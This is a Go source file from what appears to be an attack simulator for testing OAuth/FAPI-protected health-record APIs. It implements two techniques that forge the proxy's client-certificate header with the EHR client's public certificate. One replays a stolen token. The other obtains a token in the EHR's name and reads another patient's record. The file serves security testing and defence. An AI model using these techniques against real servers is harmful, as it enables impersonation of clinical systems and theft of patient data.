package attacker

import (
	"context"
	"errors"
	"net/http"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("M-02", Technique{
	Title: "The client's certificate in a header, at the API",
	Story: "The API was built to stand behind a proxy that ends TLS and passes the client's certificate on in a header. The thief reaches it " +
		"directly. He has a token from the log, and the EHR's certificate, which is public: he writes it into the header himself.",
	Reads: []string{"RFC 9700 s4.13", "RFC 8705 s6.5", "RFC 9440 s4"},
	Needs: []event.Vantage{event.APILog}, Against: []Trait{CertificateBound},
	Run: func(ctx context.Context, g Ground) error {
		l, err := stolenRequest(g, event.APILog, "/Patient/")
		if err != nil {
			return err
		}
		r := withToken(get(ctx, l.URL), l.scheme, l.token, "")
		if err := borrowCertificate(g, r); err != nil {
			return err
		}
		_, err = send(g, r)
		return err
	},
})

var _ = register("M-02/token", Technique{
	Variant: "token-endpoint",
	Title:   "The client's certificate in a header, at the token endpoint",
	Story: "The authorization server believes a header about the client's certificate, as if the proxy in front had written it. The thief " +
		"writes the EHR's certificate into it, which is public, and gets a token in the EHR's own name; the API he treats likewise.",
	Reads:   []string{"RFC 9700 s4.13", "RFC 8705 s6.5", "RFC 9440 s4"},
	Against: []Trait{CertificateAuth, CertificateBound},
	Run: func(ctx context.Context, g Ground) error {
		c := noCredentials
		c.ClientID = g.Target().ClientID
		a, err := newApp(ctx, g, c)
		if err != nil {
			return err
		}
		r := post(ctx, a.meta.PreferAliases().TokenEndpoint, machineAccess(g, c.ClientID))
		if err := borrowCertificate(g, r); err != nil {
			return err
		}
		ans, err := send(g, r)
		if err != nil {
			return err
		}
		t, err := readToken(ans)
		if err != nil {
			return err
		}
		r = withToken(get(ctx, record(g, stranger(g))), "Bearer", t.AccessToken, "")
		if err := borrowCertificate(g, r); err != nil {
			return err
		}
		_, err = send(g, r)
		return err
	},
})

// borrowCertificate writes the honest client's certificate into a request.
func borrowCertificate(g Ground, r *http.Request) error {
	der := g.Target().ClientCertificate
	if der == nil {
		return errors.New("expected the honest client to have a certificate, found none")
	}
	r.Header.Set(fapi.ClientCertHeader, fapi.FormatClientCert(der))
	return nil
}

// machineAccess is a request for a token in a client's own name, without what proves it.
func machineAccess(g Ground, clientID string) url.Values {
	return url.Values{
		"grant_type": {"client_credentials"}, "client_id": {clientID}, "scope": {"system/*.rs"}, "resource": {g.Target().FHIRBase},
	}
}
